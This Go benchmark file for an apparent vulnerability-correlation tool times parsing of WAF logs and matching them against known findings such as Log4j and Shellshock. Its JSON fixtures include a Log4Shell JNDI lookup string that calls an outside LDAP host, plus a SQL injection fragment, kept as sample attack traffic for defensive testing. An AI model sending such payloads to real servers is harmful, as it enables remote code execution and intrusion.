package edge_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"testing"
	"time"

	"github.com/sentinel-sca/sentinel/internal/edge"
)

const benchObservations = 100_000

// benchFindings are 50 open findings of one asset: a few that the test
// log's traffic matches, the rest not.
func benchFindings() []edge.FindingRef {
	fs := []edge.FindingRef{
		{ID: "fnd_log4j", AdvisoryID: "GHSA-jfh8-c2jp-5v3q", Aliases: []string{"CVE-2021-44228"}, Purl: "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1", RiskScore: 80},
		{ID: "fnd_wpfm", AdvisoryID: "CVE-2020-25213", Purl: "pkg:composer/wpackagist-plugin/wp-file-manager@6.0", RiskScore: 70},
		{ID: "fnd_bash", AdvisoryID: "DSA-3032-1", Aliases: []string{"CVE-2014-6271"}, Purl: "pkg:deb/debian/bash@4.2", RiskScore: 60},
	}
	for i := len(fs); i < 50; i++ {
		fs = append(fs, edge.FindingRef{
			ID: fmt.Sprintf("fnd_%d", i), AdvisoryID: fmt.Sprintf("GHSA-bench-%04d", i), Aliases: []string{fmt.Sprintf("CVE-2024-%05d", i)},
			Purl:      fmt.Sprintf("pkg:npm/package-%d@1.0.%d", i, i),
			Locations: []string{"web/package-lock.json", fmt.Sprintf("https://shop.example.com/static/js/lib-%d.min.js", i)},
			RiskScore: 40,
		})
	}
	return fs
}

// BenchmarkModSecParseCorrelate reads 100,000 audit log entries (the
// entries of testdata/modsec/audit.log over and over), correlates each with
// an asset's 50 findings and applies the window policy to every match:
// the library's part of the service's path from a WAF log to events.
func BenchmarkModSecParseCorrelate(b *testing.B) {
	data, err := os.ReadFile("testdata/modsec/audit.log")
	if err != nil {
		b.Fatal(err)
	}
	lines := bytes.Split(bytes.TrimSpace(data), []byte("\n"))
	c := edge.NewCorrelator(benchFindings())
	b.SetBytes(int64(len(data)) * benchObservations / int64(len(lines)))
	for b.Loop() {
		states := map[string]*edge.State{}
		matched := 0
		for i := range benchObservations {
			o, err := edge.ParseModSecEntry(lines[i%len(lines)])
			if errors.Is(err, edge.ErrNotAnAttack) {
				continue
			}
			if err != nil {
				b.Fatal(err)
			}
			o.Time = o.Time.Add(time.Duration(i) * time.Second)
			for _, m := range c.Match(&o) {
				d := edge.DefaultPolicy.Apply(states[m.FindingID], o.Time, o.Action, 50)
				states[m.FindingID] = &d.State
				matched++
			}
		}
		if matched == 0 {
			b.Fatal("nothing matched")
		}
	}
	b.ReportMetric(float64(benchObservations)*float64(b.N)/b.Elapsed().Seconds(), "obs/s")
}

// BenchmarkBatchDecodeCorrelate is the same for the documented JSON format,
// in batches of 10,000.
func BenchmarkBatchDecodeCorrelate(b *testing.B) {
	items := []string{
		`{"time":"2026-11-21T22:19:05Z","host":"shop.example.com","source":"203.0.113.7","action":"blocked","path":"/api/login","method":"POST","rule_id":"944150","message":"Potential Remote Command Execution: Log4j / Log4shell","matched_data":"${jndi:ldap://198.51.100.7/a}","tags":["attack-rce","language-java","paranoia-level/1"],"severity":"critical","status":403}`,
		`{"time":"2026-11-21T22:19:06Z","host":"shop.example.com","source":"203.0.113.8","action":"detected","path":"/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php","user_agent":"WPScan v3.8.22","rule_id":"913100","tags":["attack-reputation-scanner"],"severity":"critical"}`,
		`{"time":"2026-11-21T22:19:07Z","host":"shop.example.com","source":"2001:db8::9","action":"blocked","path":"/products.php","query":"id=1%27%20UNION%20SELECT","rule_id":"942100","message":"SQL Injection Attack Detected via libinjection","tags":["attack-sqli","language-multi"],"severity":"critical"}`,
	}
	var buf bytes.Buffer
	buf.WriteString(`{"observations":[`)
	for i := range edge.MaxBatch {
		if i > 0 {
			buf.WriteByte(',')
		}
		buf.WriteString(items[i%len(items)])
	}
	buf.WriteString(`]}`)
	batch := buf.Bytes()
	// Check the batch is valid JSON once, outside the timing.
	if !json.Valid(batch) {
		b.Fatal("invalid batch")
	}
	c := edge.NewCorrelator(benchFindings())
	b.SetBytes(int64(len(batch)) * benchObservations / edge.MaxBatch)
	for b.Loop() {
		states := map[string]*edge.State{}
		for range benchObservations / edge.MaxBatch {
			obs, err := edge.DecodeBatch(batch)
			if err != nil {
				b.Fatal(err)
			}
			for i := range obs {
				for _, m := range c.Match(&obs[i]) {
					d := edge.DefaultPolicy.Apply(states[m.FindingID], obs[i].Time, obs[i].Action, 50)
					states[m.FindingID] = &d.State
				}
			}
		}
	}
	b.ReportMetric(float64(benchObservations)*float64(b.N)/b.Elapsed().Seconds(), "obs/s")
}

// BenchmarkModSecParseCorrelateParallel is BenchmarkModSecParseCorrelate on
// every core (GOMAXPROCS), each goroutine with its own share of the
// entries: what a service that parses a log in parallel gets.
func BenchmarkModSecParseCorrelateParallel(b *testing.B) {
	data, err := os.ReadFile("testdata/modsec/audit.log")
	if err != nil {
		b.Fatal(err)
	}
	lines := bytes.Split(bytes.TrimSpace(data), []byte("\n"))
	c := edge.NewCorrelator(benchFindings())
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		i := 0
		for pb.Next() {
			o, err := edge.ParseModSecEntry(lines[i%len(lines)])
			i++
			if errors.Is(err, edge.ErrNotAnAttack) {
				continue
			}
			if err != nil {
				b.Error(err)
				return
			}
			for _, m := range c.Match(&o) {
				_ = edge.DefaultPolicy.Apply(nil, o.Time, o.Action, 50)
				_ = m
			}
		}
	})
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "obs/s")
}
